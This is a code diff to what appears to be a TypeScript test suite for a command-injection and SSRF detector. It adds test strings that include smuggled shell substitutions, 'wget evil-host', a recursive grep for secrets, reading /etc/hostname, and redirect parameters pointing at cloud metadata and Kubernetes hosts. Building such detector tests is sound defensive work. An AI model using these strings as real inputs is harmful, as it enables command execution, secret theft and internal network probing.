@@ -51,6 +51,10 @@ const SHAPES: Record<string, string[]> = {
     ";echo MARKERMARKER",
     "'|echo probe",
     "7;echo 4242",
+    "$(seq 1 3)",
+    "`expr 6 \\* 7`",
+    "`basename $0`",
+    "`tail -c 4 /etc/hostname`",
   ],
   "svc-cmdi-018: a command line as the whole value": [
     "ifconfig",
@@ -71,6 +75,9 @@ const SHAPES: Record<string, string[]> = {
     'eval "uname; id"',
     "echo '<?php ?>' > shell.php",
     "printf x >> ~/.bashrc",
+    "wget evil-host",
+    "grep -ri secret .",
+    "mkdir loot",
   ],
   "svc-cmdi-019: Windows and PowerShell forms": [
     "&^n^e^t user",
@@ -136,6 +143,9 @@ const SHAPES: Record<string, string[]> = {
     "jdbc:postgresql://203.0.113.5/db",
     "\\\\203.0.113.5\\c$",
     "http://meta\tdata.google.internal/",
+    "redirect_uri=metadata.google.internal",
+    "https://partner.example/login?next=10.20.30.40",
+    "https://partner.example/img?src=kubernetes.default.svc",
   ],
 };
 
@@ -168,6 +178,10 @@ describe("round 5 shell and SSRF shapes", () => {
     expect(bareHost("section=metadata")).toBeUndefined();
     expect(internalTargets("https://x.example/?u=127.0.0.1:22")).toEqual(["//127.0.0.1/"]);
     expect(internalTargets("https://www.fidelis.org/?ref=10.0.0.1")).toEqual([]);
+    // A parameter named for a URL names a host alone too.
+    expect(bareHost("url=localhost")).toBe("localhost");
+    expect(internalTargets("https://x.example/?next=10.0.0.1")).toEqual(["//10.0.0.1/"]);
+    expect(internalTargets("https://www.uhc.com/?file=metadata")).toEqual([]);
   });
 
   it("reads numeric spellings at the start only where no ordinary number looks like them", () => {
